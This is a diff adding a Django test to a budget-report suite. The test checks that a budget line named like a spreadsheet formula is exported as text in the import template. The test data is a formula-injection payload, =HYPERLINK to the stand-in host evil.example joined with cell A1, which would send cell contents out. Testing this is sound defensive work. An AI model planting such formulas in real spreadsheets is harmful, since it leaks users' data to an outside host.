@@ -114,3 +114,13 @@ class ReportTests(InEnglish, PersonaTestCase):
         self.assertEqual(sheet.cell(5, 2).value, line.name)
         self.assertEqual(Decimal(str(sheet.cell(5, 5).value)), line.months.get(month=1).disbursed)
         self.assertIsNotNone(Unit.objects.get(code="4301"))
+
+    def test_a_line_named_like_a_formula_is_text_in_the_template(self):
+        line = BudgetLine.objects.get(unit__code="4301", number=1)
+        line.name = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+        line.save(update_fields=["name"])
+        self.login(self.approver)
+        response = self.client.get(reverse("budget:import-template", args=["4301"]) + "?year=2566")
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        self.assertEqual((sheet.cell(5, 2).value, sheet.cell(5, 2).data_type), (line.name, "s"))
+        self.assertEqual(sheet.cell(5, 17).data_type, "f")  # the template's own sums stay
